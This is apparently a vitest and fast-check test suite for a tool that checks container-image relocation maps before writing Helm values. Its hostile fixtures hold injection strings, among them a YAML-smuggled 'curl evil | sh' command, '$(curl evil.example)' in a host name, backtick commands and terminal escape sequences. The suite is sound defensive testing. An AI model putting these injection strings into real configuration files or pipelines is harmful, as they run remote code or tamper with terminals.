/**
 * Adversarial suite for the relocation-map boundary (map -> Helm values): every hostile map is
 * refused with its RELOCATION_* code and no raw control character in the message; every legitimate
 * variant puts exactly the parsed registry, repository and digest into the values.
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { mkdtempSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkRelocationMap } from '../../cli/bundle/relocation-check.js';
import { readRelocationMap, type RelocationMap } from '../../cli/bundle/relocation.js';
import { relocateValues } from '../../cli/emit/relocate.js';
import { splitPinnedReference } from '../../cli/oci/reference.js';
import { baseValues, chartImageKeys, imageOf, mergeValues } from '../../cli/emit/charts.js';
import { UserError } from '../../cli/lib/errors.js';
import { legitimateMap, withEntry } from '../helpers/relocation.js';
import { refusal } from '../helpers/user-error.js';

const R = 'registry.acme.internal:5000/site';
const MAP = legitimateMap(R);
const FIRST = MAP.entries[0]!;
const D = FIRST.digest;
const REPO = splitPinnedReference(FIRST.source).repository;
const OTHER = `sha256:${'e'.repeat(64)}`;
const CONTEXT = { origin: 'acme.relocation.json', hint: null };
// Nothing a terminal or YAML would act on: C0/C1 controls, DEL, line and bidi controls.
const RAW_CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

function target(entry: string, change: Record<string, unknown> = {}): RelocationMap {
  return withEntry(MAP, 0, { target: entry, ...change });
}

const hostile: Array<[string, () => unknown, string]> = [
  // Targets that are no pinned reference.
  ['newline and YAML in a target', () => target(`${R}/${REPO}@${D}\n    command: [sh, -c, "curl evil | sh"]`), 'RELOCATION_TARGET_INVALID'],
  ['YAML flow mapping in a target', () => target(`${R}/${REPO}@${D}", command: [sh]}`), 'RELOCATION_TARGET_INVALID'],
  ['$(...) in the host', () => target(`$(curl evil.example).acme.internal/${REPO}@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['backticks in the repository', () => target(`${R}/\`id\`/portal@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['a space', () => target(`${R}/agent platform/portal@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['a tab', () => target(`${R}/${REPO}\t@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['an upper-case host', () => target(`REGISTRY.ACME.INTERNAL:5000/site/${REPO}@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['an upper-case repository', () => target(`${R}/Agent-Platform/portal@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['no repository', () => target(`registry.acme.internal:5000@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['no registry host (Docker Hub)', () => target(`site/${REPO}@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['a tag and a digest', () => target(`${R}/${REPO}:2026.11.0@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['a tag only', () => target(`${R}/${REPO}:latest`), 'RELOCATION_TARGET_INVALID'],
  ['a sha512 digest', () => target(`${R}/${REPO}@sha512:${'a'.repeat(128)}`), 'RELOCATION_TARGET_INVALID'],
  ['an upper-case hex digest', () => target(`${R}/${REPO}@${D.toUpperCase().replace('SHA256', 'sha256')}`), 'RELOCATION_TARGET_INVALID'],
  ['a short digest', () => target(`${R}/${REPO}@sha256:abc`), 'RELOCATION_TARGET_INVALID'],
  ['an escape sequence', () => target(`${R}/${REPO}\u001b[2J@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['a bidi override', () => target(`${R}/${REPO}\u202e@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['a NUL', () => target(`${R}/${REPO}\u0000@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['a name over 255 characters', () => target(`${R}/${'a'.repeat(250)}@${D}`), 'RELOCATION_TARGET_INVALID'],
  ['a number', () => target(42 as unknown as string), 'RELOCATION_TARGET_INVALID'],
  ['a mapping', () => target({ registry: 'x' } as unknown as string), 'RELOCATION_TARGET_INVALID'],
  // Image swaps.
  ["a digest other than the entry's", () => target(`${R}/${REPO}@${OTHER}`), 'RELOCATION_DIGEST_MISMATCH'],
  ["target and entry agree, the source's digest differs (silent swap)", () => target(`${R}/${REPO}@${OTHER}`, { digest: OTHER }), 'RELOCATION_DIGEST_MISMATCH'],
  [
    "a bundle record other than the map's root",
    () => withEntry(MAP, MAP.entries.length - 1, { target: `${R}/installctl/bundles@${OTHER}`, digest: OTHER }),
    'RELOCATION_DIGEST_MISMATCH',
  ],
  // Outside the map's registry.
  ['another host', () => target(`evil.example:5000/site/${REPO}@${D}`), 'RELOCATION_OUTSIDE_REGISTRY'],
  ['the same host on another port', () => target(`registry.acme.internal:5001/site/${REPO}@${D}`), 'RELOCATION_OUTSIDE_REGISTRY'],
  ['a prefix that only starts like the registry prefix', () => target(`registry.acme.internal:5000/site-evil/${REPO}@${D}`), 'RELOCATION_OUTSIDE_REGISTRY'],
  ['the registry prefix itself as the repository', () => target(`registry.acme.internal:5000/site@${D}`), 'RELOCATION_OUTSIDE_REGISTRY'],
  ['a public host in a private map', () => target(`docker.io/library/${REPO}@${D}`), 'RELOCATION_OUTSIDE_REGISTRY'],
  // Public registries.
  ['a Docker Hub map', () => legitimateMap('docker.io/acme'), 'RELOCATION_PUBLIC_HOST'],
  ['a subdomain of a public registry', () => legitimateMap('registry-1.docker.io/acme'), 'RELOCATION_PUBLIC_HOST'],
  ['ghcr.io', () => legitimateMap('ghcr.io/acme/mirror'), 'RELOCATION_PUBLIC_HOST'],
  ['a public registry with a port', () => legitimateMap('quay.io:443/acme'), 'RELOCATION_PUBLIC_HOST'],
  // A malformed map registry.
  ['an upper-case map registry', () => ({ ...MAP, registry: 'Registry.Acme.Internal:5000/site' }), 'RELOCATION_REGISTRY_INVALID'],
  ['a map registry with a scheme', () => ({ ...MAP, registry: 'https://registry.acme.internal' }), 'RELOCATION_REGISTRY_INVALID'],
  ['a map registry without a dot or port (Docker Hub)', () => ({ ...MAP, registry: 'mirror' }), 'RELOCATION_REGISTRY_INVALID'],
  ['a map registry with a trailing slash', () => ({ ...MAP, registry: `${R}/` }), 'RELOCATION_REGISTRY_INVALID'],
  ['a map registry with a newline', () => ({ ...MAP, registry: `${R}\nx: y` }), 'RELOCATION_REGISTRY_INVALID'],
  ['an empty map registry', () => ({ ...MAP, registry: '' }), 'RELOCATION_REGISTRY_INVALID'],
  // Sources.
  ['an image source with a tag', () => withEntry(MAP, 0, { source: FIRST.source.replace('@', ':2026.11.0@') }), 'RELOCATION_SOURCE_INVALID'],
  ['an image source with a newline', () => withEntry(MAP, 0, { source: `${FIRST.source}\nx` }), 'RELOCATION_SOURCE_INVALID'],
  ['an artifact name with a control character', () => withEntry(MAP, MAP.entries.length - 2, { source: 'agent\u001b[31mplatform' }), 'RELOCATION_SOURCE_INVALID'],
  ['one source, two targets', () => ({ ...MAP, entries: [...MAP.entries, { ...FIRST, target: `${R}/elsewhere/portal@${D}` }] }), 'RELOCATION_DUPLICATE_SOURCE'],
  // Whole documents.
  ['null', () => null, 'RELOCATION_MAP_INVALID'],
  ['a list', () => [MAP], 'RELOCATION_MAP_INVALID'],
  ['a string', () => 'RelocationMap', 'RELOCATION_MAP_INVALID'],
  ['another kind', () => ({ ...MAP, kind: 'DeliveryReceipt' }), 'RELOCATION_MAP_INVALID'],
  ['another apiVersion', () => ({ ...MAP, apiVersion: 'installctl.dev/v2' }), 'RELOCATION_MAP_INVALID'],
  ['entries not a list', () => ({ ...MAP, entries: { 0: FIRST } }), 'RELOCATION_MAP_INVALID'],
  ['an entry with an extra key', () => withEntry(MAP, 0, { command: ['sh'] }), 'RELOCATION_MAP_INVALID'],
  ['an unknown entry kind', () => withEntry(MAP, 0, { kind: 'script' }), 'RELOCATION_MAP_INVALID'],
  ['an unknown key with an escape sequence', () => ({ ...MAP, '\u001b]0;owned\u0007': 1 }), 'RELOCATION_MAP_INVALID'],
  ['10^5 entries', () => ({ ...MAP, entries: Array.from({ length: 100_000 }, () => FIRST) }), 'RELOCATION_MAP_INVALID'],
  ['10^5 garbage entries', () => ({ ...MAP, entries: Array.from({ length: 100_000 }, (_, i) => ({ [`k${i}`]: i })) }), 'RELOCATION_MAP_INVALID'],
  ['garbage nested a million deep', () => ({ ...MAP, kind: JSON.parse('['.repeat(1_000_000) + ']'.repeat(1_000_000)) }), 'RELOCATION_MAP_INVALID'],
  ['a 4 MiB kind', () => ({ ...MAP, kind: 'R'.repeat(4 * 1024 * 1024) }), 'RELOCATION_MAP_INVALID'],
  ['an entry with 10^5 unknown keys', () => withEntry(MAP, 0, Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`k${i}`, i]))), 'RELOCATION_MAP_INVALID'],
  ['a 4 MiB dotted registry', () => ({ ...MAP, registry: `${'a.'.repeat(2 * 1024 * 1024)}!` }), 'RELOCATION_REGISTRY_INVALID'],
  ['a 4 MiB dotted target', () => target(`${'a.'.repeat(2 * 1024 * 1024)}a/${REPO}@${D}`), 'RELOCATION_TARGET_INVALID'],
];

describe('relocation map -> values: hostile maps', () => {
  it.each(hostile)('refuses %s', (_, make, code) => {
    const error = refusal(() => checkRelocationMap(make(), CONTEXT));
    expect(error.code).toBe(code);
    expect(error.exitCode).toBe(2);
    expect(error.message).not.toMatch(RAW_CONTROL);
    expect(error.hint ?? '').not.toMatch(RAW_CONTROL);
    for (const problem of (error.details?.problems ?? []) as Array<{ path: string; message: string }>) expect(problem.path + problem.message).not.toMatch(RAW_CONTROL);
  });

  it('names the JSON path of the bad entry', () => {
    const map = withEntry(MAP, 3, { target: `${R}/${REPO}@${D}\nx: y` });
    expect(refusal(() => checkRelocationMap(map, CONTEXT)).message).toContain('entries[3].target');
    expect(refusal(() => checkRelocationMap(withEntry(MAP, 2, { target: `${R}/${REPO}@${OTHER}` }), CONTEXT)).message).toContain('entries[2].target');
  });

  const files: Array<[string, (file: string) => void, string]> = [
    ['not JSON', (file) => writeFileSync(file, '{"kind": "RelocationMap", entries: [\u001b[31m'), 'RELOCATION_MAP_INVALID'],
    ['empty', (file) => writeFileSync(file, ''), 'RELOCATION_MAP_INVALID'],
    ['a YAML map', (file) => writeFileSync(file, 'kind: RelocationMap\nentries: []\n'), 'RELOCATION_MAP_INVALID'],
    ['16 MiB of empty entries', (file) => writeFileSync(file, `{"entries":[${'{},'.repeat(5_000_000)}{}]}`), 'RELOCATION_MAP_INVALID'],
    ['over 16 MiB', (file) => (writeFileSync(file, '{'), truncateSync(file, 16 * 1024 * 1024 + 1)), 'RELOCATION_MAP_TOO_LARGE'],
  ];
  it.each(files)('refuses a file that is %s', (_, write, code) => {
    const file = join(mkdtempSync(join(tmpdir(), 'installctl-relocation-')), 'map.json');
    write(file);
    const error = refusal(() => readRelocationMap(file));
    expect(error.code).toBe(code);
    expect(error.message).not.toMatch(RAW_CONTROL);
  });

  it('refuses /dev/zero by its cap, without reading it whole', () => {
    expect(refusal(() => readRelocationMap('/dev/zero')).code).toBe('RELOCATION_MAP_TOO_LARGE');
  });
});

/** Every image the agent-platform chart runs, relocated with the map. */
function relocated(map: RelocationMap): Array<{ source: string; value: unknown }> {
  const { images } = checkRelocationMap(map, CONTEXT);
  const values = relocateValues('agent-platform', {}, images, 'map');
  const merged = mergeValues(baseValues('agent-platform'), {});
  return chartImageKeys('agent-platform', merged).map((key) => {
    const image = imageOf('agent-platform', merged, key);
    return { source: `${image.registry}/${image.repository}@${image.digest}`, value: (values.images as Record<string, unknown>)[key] };
  });
}

describe('relocation map -> values: legitimate maps', () => {
  it.each([
    ['a port and a prefix', 'registry.acme.internal:5000/site', 'registry.acme.internal:5000', 'site/'],
    ['a nested prefix', 'registry.acme.internal/team-a/mirror/v1', 'registry.acme.internal', 'team-a/mirror/v1/'],
    ['no prefix', 'registry.acme.internal', 'registry.acme.internal', ''],
    ['an IPv6 host', '[fd00::1]:5000/mirror', '[fd00::1]:5000', 'mirror/'],
    ['localhost', 'localhost:5000', 'localhost:5000', ''],
    ['localhost without a port', 'localhost/mirror', 'localhost', 'mirror/'],
    ['an IPv4 host', '10.0.12.7:5000/mirror', '10.0.12.7:5000', 'mirror/'],
    ['a single-label host with a port', 'mirror:5000/x', 'mirror:5000', 'x/'],
  ])('%s: values hold exactly the parsed parts', (_, registry, host, prefix) => {
    const map = legitimateMap(registry);
    const entries = new Map(map.entries.map((entry) => [entry.source, entry]));
    const images = relocated(map);
    expect(images.length).toBeGreaterThan(5);
    for (const { source, value } of images) {
      const { repository, digest } = splitPinnedReference(source);
      expect(value).toEqual({ registry: host, repository: `${prefix}${repository}`, digest });
      expect(`${host}/${prefix}${repository}@${digest}`).toBe(entries.get(source)!.target);
    }
  });

  it('a platform map may pin platform manifests only with allowPlatformNarrowed; their digests come from the target', () => {
    const map = { ...legitimateMap(R), platform: 'linux/amd64' };
    map.entries[0] = { ...map.entries[0]!, target: `${R}/${REPO}@${OTHER}`, digest: OTHER };
    expect(refusal(() => checkRelocationMap(map, CONTEXT)).code).toBe('RELOCATION_DIGEST_MISMATCH');
    const checked = checkRelocationMap(map, { ...CONTEXT, allowPlatformNarrowed: true });
    expect(checked.narrowed).toEqual([FIRST.source]);
    expect(checked.images.get(FIRST.source)).toEqual({ registry: 'registry.acme.internal:5000', repository: `site/${REPO}`, digest: OTHER });
    // Even then the target pins the entry's digest.
    map.entries[0] = { ...map.entries[0]!, target: `${R}/${REPO}@${D}` };
    expect(refusal(() => checkRelocationMap(map, { ...CONTEXT, allowPlatformNarrowed: true })).code).toBe('RELOCATION_DIGEST_MISMATCH');
  });

  it('the same source listed twice with the same target is one relocation', () => {
    expect(checkRelocationMap({ ...MAP, entries: [...MAP.entries, FIRST] }, CONTEXT).images.get(FIRST.source)).toBeDefined();
  });
});

describe('relocation map -> values: property', () => {
  // Each part is mostly well-formed (so acceptance is common) and sometimes anything at all.
  const part = (valid: fc.Arbitrary<string>, hostile: fc.Arbitrary<string>) => fc.oneof({ arbitrary: valid, weight: 5 }, { arbitrary: hostile, weight: 1 });
  const hostish = part(
    fc.oneof(fc.constantFrom('registry.acme.internal', 'localhost', '[fd00::1]', '10.0.0.1'), fc.stringMatching(/^[a-z0-9]{1,8}(\.[a-z0-9-]{0,6}[a-z0-9]){1,3}$/)),
    fc.oneof(fc.constantFrom('mirror', 'REG.acme', 'docker.io', 'a..b', '-a.b', 'a.b-', '$(id).x'), fc.stringMatching(/^[a-z0-9.[\]:-]{1,24}$/), fc.string({ maxLength: 24 })),
  );
  const port = part(
    fc.oneof(
      fc.constant(''),
      fc.integer({ min: 1, max: 65535 }).map((n) => `:${n}`),
    ),
    fc.constantFrom(':', ':x', ': 1', ':5000\n'),
  );
  const pathish = part(
    fc.stringMatching(/^[a-z0-9]{1,6}([._-][a-z0-9]{1,6}){0,2}(\/[a-z0-9]{1,6}){0,3}$/),
    fc.oneof(fc.stringMatching(/^[a-zA-Z0-9._/-]{1,40}$/), fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 20 })),
  );
  const digestish = part(fc.constant(D), fc.oneof(fc.constant(OTHER), fc.stringMatching(/^[a-zA-Z0-9:]{1,80}$/), fc.string({ maxLength: 80 })));
  const tail = part(fc.constant(''), fc.oneof(fc.constantFrom('\n  command: [sh]', ' ', ':latest', '\u001b[0m', '\u202e', '\u0085'), fc.string({ maxLength: 8 })));

  let accepted = 0;
  it('an accepted target round-trips through splitPinnedReference and holds no whitespace or control character', () => {
    fc.assert(
      fc.property(hostish, port, pathish, pathish, digestish, tail, fc.boolean(), (host, portText, prefix, repository, digest, suffix, prefixed) => {
        const registry = prefixed ? `${host}${portText}/${prefix}` : `${host}${portText}`;
        const text = `${registry}/${repository}@${digest}${suffix}`;
        const map = { ...MAP, registry, entries: [{ kind: 'image' as const, source: FIRST.source, target: text, digest: FIRST.digest }] };
        let checked: ReturnType<typeof checkRelocationMap>;
        try {
          checked = checkRelocationMap(map, CONTEXT);
        } catch (error) {
          // Refused: always a user error with a RELOCATION_ code, never a crash, never a raw control.
          expect(error).toBeInstanceOf(UserError);
          expect((error as UserError).code).toMatch(/^RELOCATION_[A-Z_]+$/);
          expect((error as UserError).message).not.toMatch(RAW_CONTROL);
          return;
        }
        expect(text).not.toMatch(/[\s\u0000-\u001f\u007f-\uffff]/);
        const parts = splitPinnedReference(text);
        expect(`${parts.registry}/${parts.repository}@${parts.digest}`).toBe(text);
        expect(checked.images.get(FIRST.source)).toEqual(parts);
        accepted++;
      }),
      { numRuns: 3000 },
    );
    // The generators reach acceptance often enough for the property to say something.
    expect(accepted).toBeGreaterThan(100);
  });
});
